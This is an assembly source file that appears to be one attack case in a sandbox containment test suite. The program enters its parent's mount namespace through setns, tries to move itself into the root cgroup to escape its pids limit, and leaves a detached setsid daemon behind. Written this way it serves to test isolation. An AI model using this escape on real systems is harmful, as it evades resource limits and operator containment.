; Moves itself out of its case's pids cgroup (into the root of the v1 pids hierarchy or of
; cgroup v2, through asmrun's mount namespace when /proc/PPID/ns/mnt lets it in), then leaves a
; setsid daemon. Contained: "cgroup: refused", and the daemon ends with the case.
%include "attack.inc"
section .data
proc:   db "/proc/", 0
ns_mnt: db "/ns/mnt", 0
v1:     db "/sys/fs/cgroup/pids/cgroup.procs", 0
v2:     db "/sys/fs/cgroup/cgroup.procs", 0
zero:   db "0", 10
text moved, "cgroup: moved"
text refused, "cgroup: refused"
section .bss
path:   resb 64
section .text
global _start
_start:
        lea     rdi, [rel path]
        lea     rsi, [rel proc]
        call    append_string
        mov     eax, SYS_getppid
        syscall
        call    append_decimal
        lea     rsi, [rel ns_mnt]
        call    append_string
        mov     eax, SYS_open
        lea     rdi, [rel path]
        xor     esi, esi
        syscall
        test    rax, rax
        js      .move
        mov     edi, eax
        mov     eax, SYS_setns
        xor     esi, esi
        syscall
.move:  lea     rdi, [rel v1]
        call    join_root
        test    rax, rax
        jz      .moved
        lea     rdi, [rel v2]
        call    join_root
        test    rax, rax
        jz      .moved
        say     refused
        jmp     .daemon
.moved: say     moved
.daemon:
        xor     edi, edi
        call    spawn_daemon
        exit_with 0

; Writes "0" to the cgroup.procs file at rdi; rax = 0 when the write went through.
join_root:
        mov     eax, SYS_open
        mov     esi, 1                  ; O_WRONLY
        syscall
        test    rax, rax
        js      .fail
        mov     edi, eax
        mov     eax, SYS_write
        lea     rsi, [rel zero]
        mov     edx, 2
        syscall
        cmp     rax, 2
        jne     .fail
        xor     eax, eax
        ret
.fail:  mov     eax, 1
        ret
